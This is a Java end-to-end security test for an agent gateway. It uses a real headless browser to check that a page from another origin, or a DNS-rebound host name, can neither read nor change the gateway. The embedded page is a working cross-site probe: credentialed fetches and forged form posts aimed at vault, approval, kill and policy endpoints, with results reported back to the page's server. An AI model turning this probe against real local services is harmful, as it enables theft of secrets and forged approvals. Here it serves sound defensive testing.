package dev.postern.app.e2e;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.postern.testkit.server.Chromium;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A4: what a page of somebody else's can do to the gateway from the operator's own browser: nothing. In a real Chromium. */
class BrowserOriginTest {
    /** Tries each address by each means a page has, and tells its own server what it could read. */
    private static final String PAGE = """
            <!doctype html><meta charset="utf-8"><script>
            const gateway = location.hash.slice(1);
            const addresses = ["/", "/approvals", "/vault", "/ledger", "/live", "/mcp", "/openapi.json", "/api/vault/secrets",
                "/api/approvals", "/healthz"];
            const body = "decision=approve&on=true&name=stolen&value=x";
            const means = [
                {method: "GET"}, {method: "GET", mode: "no-cors"},
                {method: "POST", body}, {method: "POST", body, mode: "no-cors"},
                {method: "POST", body, mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}},
                {method: "POST", body: "{}", headers: {"Content-Type": "application/json"}},
                {method: "PUT", body: "{}", headers: {"Content-Type": "application/json"}},
                {method: "DELETE"}];
            (async () => {
                const read = ["own: " + (await fetch("/own")).status];
                for (const address of addresses) {
                    for (const mean of means) {
                        const giveUp = new AbortController();
                        setTimeout(() => giveUp.abort(), 3000);
                        try {
                            const answer = await fetch(gateway + address, {...mean, credentials: "include", signal: giveUp.signal});
                            const text = await answer.text();
                            if (answer.type !== "opaque" || text !== "") {
                                read.push(mean.method + " " + address + ": " + answer.status + " " + text.slice(0, 200));
                            }
                        } catch (e) { /* as it should be */ }
                    }
                }
                for (const target of ["/kill", "/approvals/decide", "/policy", "/vault/new", "/agents"]) {
                    const frame = document.createElement("iframe");
                    frame.name = "f" + target;
                    document.body.append(frame);
                    const form = document.createElement("form");
                    Object.assign(form, {action: gateway + target, method: "post", target: frame.name});
                    const field = document.createElement("input");
                    Object.assign(field, {name: "scope", value: "ALL"});
                    form.append(field);
                    document.body.append(form);
                    await new Promise(done => { frame.onload = done; setTimeout(done, 3000); form.submit(); });
                    try { read.push("frame " + target + ": " + frame.contentDocument.body.innerText); } catch (e) { /* another's */ }
                }
                await fetch("/told", {method: "POST", body: read.filter(line => !line.endsWith(": ")).join("\\n")});
            })();
            </script><body></body>""";

    @TempDir
    private Path data = Path.of("");

    private HttpServer elsewhere;
    private final BlockingQueue<String> told = new LinkedBlockingQueue<>();

    @BeforeEach
    void serve() throws IOException {
        elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        elsewhere.createContext("/", exchange -> answer(exchange, PAGE));
        elsewhere.createContext("/told", exchange -> {
            String body = new String(exchange.getRequestBody().readAllBytes(), UTF_8);
            answer(exchange, "");
            told.add(body);
        });
        elsewhere.start();
    }

    @AfterEach
    void close() {
        elsewhere.stop(0);
    }

    @Test
    @DisplayName("A4: a page of another origin, another port of this machine too, reads nothing and changes nothing")
    void aPageFromElsewhereReadsAndChangesNothing() throws Exception {
        Path chromium = chromium();
        try (RunningGateway gateway = RunningGateway.start(data)) {
            gateway.addSecret("db", "a value that is long enough");
            String before = state(gateway);
            for (String host : List.of("elsewhere.example", "127.0.0.1")) {
                Process browser = start(
                        chromium,
                        "--remote-debugging-port=0",
                        "http://" + host + ":" + elsewhere.getAddress().getPort() + "/#" + gateway.url());
                try {
                    assertThat(told.poll(PosternProcess.PATIENCE_SECONDS, TimeUnit.SECONDS))
                            .as("what a page of %s could read", host)
                            .isEqualTo("own: 200");
                } finally {
                    end(browser);
                }
            }
            assertThat(state(gateway)).isEqualTo(before);
        }
    }

    @Test
    @DisplayName("A4: a name that was rebound to this machine is refused, whatever the path")
    void aReboundNameIsRefused() throws Exception {
        Path chromium = chromium();
        try (RunningGateway gateway = RunningGateway.start(data)) {
            int port = URI.create(gateway.url()).getPort();
            for (String path : List.of("/", "/approvals", "/mcp", "/healthz")) {
                Process browser = start(chromium, "--dump-dom", "http://rebound.example:" + port + path);
                try {
                    String page = new String(browser.getInputStream().readAllBytes(), UTF_8);
                    assertThat(page).as(path).contains("the Host header names a host that is not this gateway");
                } finally {
                    end(browser);
                }
            }
        }
    }

    private static Path chromium() {
        Optional<Path> chromium = Chromium.find();
        assumeTrue(chromium.isPresent());
        return chromium.get();
    }

    private Process start(Path chromium, String... arguments) throws IOException {
        List<String> command = new ArrayList<>(List.of(
                chromium.toString(),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
                "--host-resolver-rules=MAP *.example 127.0.0.1",
                "--user-data-dir=" + Files.createTempDirectory(data, "browser")));
        command.addAll(List.of(arguments));
        return new ProcessBuilder(command)
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .start();
    }

    private static void end(Process browser) throws InterruptedException {
        browser.descendants().forEach(ProcessHandle::destroy);
        browser.destroy();
        if (!browser.waitFor(20, TimeUnit.SECONDS)) {
            browser.destroyForcibly().waitFor();
        }
    }

    private static void answer(HttpExchange exchange, String page) throws IOException {
        byte[] bytes = page.getBytes(UTF_8);
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(200, bytes.length == 0 ? -1 : bytes.length);
        exchange.getResponseBody().write(bytes);
        exchange.close();
    }

    private static String state(RunningGateway gateway) {
        List<String> parts = new ArrayList<>();
        for (String operation : List.of("policy.show", "secret.list", "agent.list", "grants.list", "kill.status")) {
            parts.add(gateway.ask(operation, Map.of()).spelling());
        }
        return String.join("\n", parts);
    }
}
